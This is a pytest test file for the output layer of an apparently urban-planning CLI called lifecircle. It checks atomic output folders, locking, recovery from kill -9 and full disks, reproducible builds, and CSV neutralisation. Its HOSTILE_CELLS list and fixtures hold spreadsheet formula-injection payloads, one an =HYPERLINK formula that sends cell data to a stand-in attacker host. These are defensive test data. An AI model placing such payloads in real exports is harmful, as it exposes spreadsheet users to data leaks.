"""Outputs: one staged, locked set; nothing lost on failure, kill -9 or a full disk;
CSV cells neutralised; byte-identical runs with SOURCE_DATE_EPOCH."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
import shapely

from lifecircle.errors import InputFileError, OutputError
from lifecircle.io.outputs import (
    KNOWN_OUTPUTS,
    OutputFolder,
    check_out,
    neutralise_cell,
    write_csv,
    write_json,
)

from .conftest import LAT0, LON0, assert_user_error, invoke, osm_grid

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
    "=1+1",
]


# --------------------------------------------------------------------------- helpers


def snapshot(folder: Path) -> dict[str, str]:
    """Relative path -> sha256 of every file below ``folder`` (hidden ones included)."""
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def temporaries(folder: Path) -> list[str]:
    """Staging folders or temporary files left next to or inside ``folder``."""
    near = [p.name for p in folder.parent.iterdir() if p.name.startswith(f".{folder.name}")]
    inside = [p.name for p in folder.rglob(".*")] if folder.exists() else []
    return near + inside


@pytest.fixture(scope="module")
def tiny(tmp_path_factory) -> dict[str, Path]:
    """A 8 x 8 street grid, two facilities and units with hostile names and ids."""
    folder = tmp_path_factory.mktemp("tiny-outputs")
    (folder / "grid.osm").write_text(osm_grid(8), encoding="utf-8")
    (folder / "fac.csv").write_text(
        "lon,lat,category,name\n"
        f'{LON0 + 0.0025},{LAT0 + 0.0025},kindergarten,"=HYPERLINK(""http://x"")"\n'
        f"{LON0 + 0.005},{LAT0 + 0.001},park,+park\n",
        encoding="utf-8",
    )
    step = 0.0035
    boxes = [
        shapely.box(LON0 + i * step, LAT0 + j * step, LON0 + (i + 1) * step, LAT0 + (j + 1) * step)
        for j in range(2)
        for i in range(2)
    ]
    units = gpd.GeoDataFrame(
        {
            "unit_id": ["=1+1", "@SUM(A1)", "-3", "\tu4", "+D"],
            "name": [*HOSTILE_CELLS[:4], "=district"],
            "parent_id": ["+D", "+D", "+D", "+D", None],
        },
        geometry=[*boxes, shapely.union_all(boxes)],
        crs="EPSG:4326",
    )
    units.to_file(folder / "units.geojson", driver="GeoJSON")
    return {
        "network": folder / "grid.osm",
        "facilities": folder / "fac.csv",
        "units": folder / "units.geojson",
    }


def tiny_args(tiny: dict[str, Path], out: Path, *extra: object) -> list[object]:
    return [
        "audit",
        "--network",
        tiny["network"],
        "--facilities",
        tiny["facilities"],
        "--units",
        tiny["units"],
        "--keep-edge-units",
        "--out",
        out,
        *extra,
    ]


def _default_ctrl_c() -> None:
    # a test run started in the background inherits SIGINT ignored (the shell's rule
    # for background jobs), and Python then leaves it ignored: the child must get
    # Ctrl-C as a planner's terminal gives it
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def run_cli(args: list[object], **env: str) -> subprocess.Popen:
    """The CLI in a child process (for signals), with Ctrl-C at its default."""
    return subprocess.Popen(
        [sys.executable, "-m", "lifecircle", *map(str, args)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env={**os.environ, **env},
        preexec_fn=_default_ctrl_c,
    )


# --------------------------------------------------------------------------- cells


@pytest.mark.parametrize("value", HOSTILE_CELLS)
def test_formula_cells_get_a_quote(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["name", "上海", "", "1=1", " =x", 3.5, -2, None])
def test_other_cells_are_kept(value):
    assert neutralise_cell(value) == value


def test_write_csv_neutralises_text_and_keeps_numbers(tmp_path):
    frame = pd.DataFrame({"name": HOSTILE_CELLS, "n": range(-3, len(HOSTILE_CELLS) - 3)})
    write_csv(tmp_path / "x.csv", frame)
    with (tmp_path / "x.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["name"] for r in rows] == ["'" + v for v in HOSTILE_CELLS]
    assert [int(r["n"]) for r in rows] == list(range(-3, len(HOSTILE_CELLS) - 3))


@pytest.mark.slow
def test_gaps_csv_is_neutralised_and_geopackage_keeps_true_values(tiny, tmp_path):
    out = tmp_path / "out"
    res = invoke(tiny_args(tiny, out, "--no-map"))
    assert res.exit_code == 0, res.output
    with (out / "gaps.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows
    for row in rows:
        for key in ("unit_id", "name"):
            assert not row[key].startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert {r["name"] for r in rows} >= {"'" + HOSTILE_CELLS[0]}
    layers = [name for name, _ in pyogrio.list_layers(out / "units.gpkg")]
    units = gpd.read_file(out / "units.gpkg", layer=layers[-1])
    assert set(units["name"]) == set(HOSTILE_CELLS[:4])
    assert set(units["unit_id"]) == {"=1+1", "@SUM(A1)", "-3", "u4"}  # ids are stripped


# --------------------------------------------------------------------------- the folder


def _publish(out: Path, files: dict[str, str], **kwargs) -> list[Path]:
    with OutputFolder(out, **kwargs) as folder:
        for name, text in files.items():
            folder.path(name).write_text(text, encoding="utf-8")
        return folder.publish()


def test_publish_replaces_the_set_and_keeps_the_users_files(tmp_path):
    out = tmp_path / "out"
    _publish(out, {"summary.json": "1", "map.html": "old map", "gaps.csv": "1"})
    (out / "notes.txt").write_text("mine", encoding="utf-8")
    (out / "osm-download").mkdir()
    (out / "osm-download" / "streets.graphml").write_text("g", encoding="utf-8")
    written = _publish(out, {"summary.json": "2", "gaps.csv": "2"})
    assert [p.name for p in written] == ["gaps.csv", "summary.json"]
    # the old map (of another run) does not stay next to the new set
    assert snapshot(out) == snapshot_of(
        {
            "summary.json": "2",
            "gaps.csv": "2",
            "notes.txt": "mine",
            "osm-download/streets.graphml": "g",
        }
    )
    assert temporaries(out) == []


def snapshot_of(files: dict[str, str]) -> dict[str, str]:
    return {k: hashlib.sha256(v.encode()).hexdigest() for k, v in sorted(files.items())}


def test_a_failure_before_publishing_leaves_the_previous_set(tmp_path):
    out = tmp_path / "out"
    _publish(out, {"summary.json": "1", "gaps.csv": "1"})
    before = snapshot(out)
    with pytest.raises(RuntimeError, match="boom"), OutputFolder(out) as folder:
        folder.path("summary.json").write_text("2", encoding="utf-8")
        raise RuntimeError("boom")
    assert snapshot(out) == before
    assert temporaries(out) == []


def test_a_failed_first_run_leaves_no_folder(tmp_path):
    out = tmp_path / "new" / "out"
    with pytest.raises(RuntimeError), OutputFolder(out):
        raise RuntimeError("boom")
    assert not out.exists()


def test_a_second_run_into_the_same_folder_is_refused(tmp_path):
    out = tmp_path / "out"
    with OutputFolder(out), pytest.raises(OutputError, match="in use by another lifecircle"):
        OutputFolder(out).__enter__()
    # released: the next run may go
    assert _publish(out, {"summary.json": "x"})


def test_stale_staging_of_a_killed_run_is_removed(tmp_path):
    out = tmp_path / "out"
    _publish(out, {"summary.json": "1"})
    stale = tmp_path / ".out.lifecircle-staging-dead"
    stale.mkdir()
    (stale / "summary.json").write_text("half", encoding="utf-8")
    _publish(out, {"summary.json": "2"})
    assert not stale.exists()


def test_out_that_is_a_file_or_inside_an_input_is_refused(tmp_path):
    afile = tmp_path / "a.txt"
    afile.write_text("x", encoding="utf-8")
    with pytest.raises(OutputError, match="existing file, not a folder"):
        check_out(afile)
    data = tmp_path / "shapes"
    data.mkdir()
    with pytest.raises(OutputError, match="lies inside, the input"):
        check_out(data / "out", [data])
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(OutputError, match="under the name of an output"):
        check_out(out, [out / "proposals.geojson"])
    with (
        OutputFolder(out, inputs=[out / "mine.geojson"]) as folder,
        pytest.raises(InputFileError, match="overwrite an input"),
    ):
        folder.path("mine.geojson")


def test_known_outputs_cover_the_contract():
    assert {
        "access.parquet",
        "units.gpkg",
        "facilities.gpkg",
        "gaps.csv",
        "summary.json",
        "map.html",
        "report.html",
        "proposals.geojson",
    } <= KNOWN_OUTPUTS


def test_json_writer_is_atomic(tmp_path):
    write_json(tmp_path / "s.json", {"a": 1})
    assert json.loads((tmp_path / "s.json").read_text(encoding="utf-8")) == {"a": 1}
    assert [p.name for p in tmp_path.iterdir()] == ["s.json"]


# --------------------------------------------------------------------------- the CLI


@pytest.mark.slow
def test_cli_out_is_a_file_exits_2_before_any_work(tiny, tmp_path):
    target = tmp_path / "out.txt"
    target.write_text("keep", encoding="utf-8")
    assert_user_error(invoke(tiny_args(tiny, target, "--no-map")), "existing file")
    assert target.read_text(encoding="utf-8") == "keep"


@pytest.mark.slow
def test_cli_refuses_while_another_run_holds_the_folder(tiny, tmp_path):
    out = tmp_path / "out"
    with OutputFolder(out):
        assert_user_error(
            invoke(tiny_args(tiny, out, "--no-map")), "in use by another lifecircle run"
        )


@pytest.mark.slow
def test_optimize_never_overwrites_its_candidates(tiny, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    cand = out / "proposals.geojson"
    gpd.GeoDataFrame(geometry=[shapely.Point(LON0 + 0.004, LAT0 + 0.004)], crs="EPSG:4326").to_file(
        cand, driver="GeoJSON"
    )
    before = cand.read_bytes()
    args = tiny_args(tiny, out, "--no-map")
    res = invoke(
        ["optimize", *args[1:], "--category", "kindergarten", "--sites", "1", "--candidates", cand]
    )
    assert_user_error(res, "proposals.geojson")
    assert cand.read_bytes() == before


def _wait_for_no_temporaries(out: Path, timeout_s: float = 10.0) -> None:
    deadline = time.monotonic() + timeout_s
    while temporaries(out) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert temporaries(out) == []


def _kill_points() -> list[float]:
    return [0.3, 0.8, 1.3, 1.8, 2.3, 2.8, 3.5]


@pytest.mark.slow
def test_kill_9_at_any_point_leaves_one_complete_set(tiny, tmp_path, monkeypatch):
    """kill -9 during a run: --out is the previous set (or, after publishing, the new
    one), never a mix; the next run removes what the killed one left behind."""
    # fixed time stamps: every complete new set is the same bytes
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    out = tmp_path / "out"
    res = invoke(tiny_args(tiny, out, "--no-map"))
    assert res.exit_code == 0, res.output
    previous = snapshot(out)
    # the new run differs from the previous one (another profile)
    args = tiny_args(tiny, out, "--no-map", "--profile", "elderly")
    finished = None
    for delay in _kill_points():
        proc = run_cli(args)
        time.sleep(delay)
        proc.send_signal(signal.SIGKILL)
        proc.communicate()
        _wait_for_no_temporaries(out)  # the killed run's janitor removes its staging folder
        now = snapshot(out)
        if now != previous:  # killed after publishing: the complete new set
            finished = finished or now
            assert now == finished
            assert set(now) == set(previous)
    res = invoke(tiny_args(tiny, tmp_path / "other", "--no-map"))  # unrelated run
    assert res.exit_code == 0
    res = invoke(args)  # the next run into --out cleans up
    assert res.exit_code == 0, res.output
    assert temporaries(out) == []


@pytest.mark.slow
@pytest.mark.parametrize(("sig", "code"), [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
def test_sigterm_and_ctrl_c_leave_the_previous_set_and_no_temporaries(tiny, tmp_path, sig, code):
    out = tmp_path / "out"
    assert invoke(tiny_args(tiny, out, "--no-map")).exit_code == 0
    previous = snapshot(out)
    # the bundled sample: a run long enough to be interrupted in the middle
    proc = run_cli(["audit", "--out", out, "--no-map"])
    assert proc.stderr is not None
    for line in proc.stderr:  # wait until the run is inside its stages
        if b"read facilities" in line:
            break
    proc.send_signal(sig)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == code, err.decode()
    assert b"previous outputs are unchanged" in err
    assert snapshot(out) == previous
    assert temporaries(out) == []


def _mount_tmpfs(path: Path, size: str, *options: str) -> bool:
    path.mkdir(parents=True, exist_ok=True)
    if shutil.which("mount") is None or os.geteuid() != 0:
        return False
    opts = ",".join([f"size={size}", *options])
    return (
        subprocess.run(
            ["mount", "-t", "tmpfs", "-o", opts, "tmpfs", str(path)],
            capture_output=True,
            check=False,
        ).returncode
        == 0
    )


def _umount(path: Path) -> None:
    subprocess.run(["umount", "-l", str(path)], capture_output=True, check=False)


@pytest.mark.slow
def test_full_disk_exits_2_and_leaves_the_previous_set(tiny, tmp_path):
    disk = tmp_path / "disk"
    if not _mount_tmpfs(disk, "4m"):
        pytest.skip("cannot mount a tmpfs here")
    try:
        out = disk / "out"
        assert invoke(tiny_args(tiny, out, "--no-map")).exit_code == 0
        previous = snapshot(out)
        # fill the disk, leaving less room than a new set needs
        filler = disk / "filler"
        with filler.open("wb", buffering=0) as fh:  # unbuffered: close has nothing to flush
            try:
                while True:
                    fh.write(b"\0" * 65536)
            except OSError:
                pass
        res = invoke(tiny_args(tiny, out, "--no-map", "--profile", "elderly"))
        assert_user_error(res, "no space left", str(out))
        assert snapshot(out) == previous
        assert temporaries(out) == []
    finally:
        _umount(disk)


@pytest.mark.slow
def test_read_only_out_exits_2_before_any_work(tiny, tmp_path):
    disk = tmp_path / "ro"
    if not _mount_tmpfs(disk, "1m", "ro"):
        pytest.skip("cannot mount a tmpfs here")
    try:
        assert_user_error(invoke(tiny_args(tiny, disk / "out", "--no-map")), "cannot")
    finally:
        _umount(disk)


# --------------------------------------------------------------------------- reproducible


@pytest.mark.slow
def test_source_date_epoch_makes_the_whole_set_byte_identical(tiny, tmp_path, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    sets = []
    for name in ("a", "b"):
        work = tmp_path / name
        work.mkdir()
        monkeypatch.chdir(work)
        res = invoke(tiny_args(tiny, Path("out")))
        assert res.exit_code == 0, res.output
        sets.append(snapshot(work / "out"))
        time.sleep(1.1)  # a clock that ticks between the runs
    assert len(sets[0]) == 7
    assert sets[0] == sets[1]
    summary = json.loads((tmp_path / "a" / "out" / "summary.json").read_text(encoding="utf-8"))
    assert summary["created"] == "2023-11-14T22:13:20+00:00"
    assert set(summary["timings_s"].values()) == {None}


def test_the_staging_folder_of_a_killed_run_is_removed_at_once(tmp_path):
    """kill -9 while the new set is half written: the janitor removes the staging folder."""
    out = tmp_path / "out"
    _publish(out, {"summary.json": "1"})
    before = snapshot(out)
    code = (
        "import sys, time\n"
        "from lifecircle.io.outputs import OutputFolder\n"
        "with OutputFolder(sys.argv[1]) as folder:\n"
        "    folder.path('summary.json').write_text('half', encoding='utf-8')\n"
        "    print('staged', flush=True)\n"
        "    time.sleep(60)\n"
    )
    proc = subprocess.Popen([sys.executable, "-c", code, str(out)], stdout=subprocess.PIPE)
    assert proc.stdout is not None
    assert proc.stdout.readline().strip() == b"staged"
    assert temporaries(out)  # the staging folder exists while the run is alive
    proc.send_signal(signal.SIGKILL)
    proc.communicate()
    _wait_for_no_temporaries(out)
    assert snapshot(out) == before
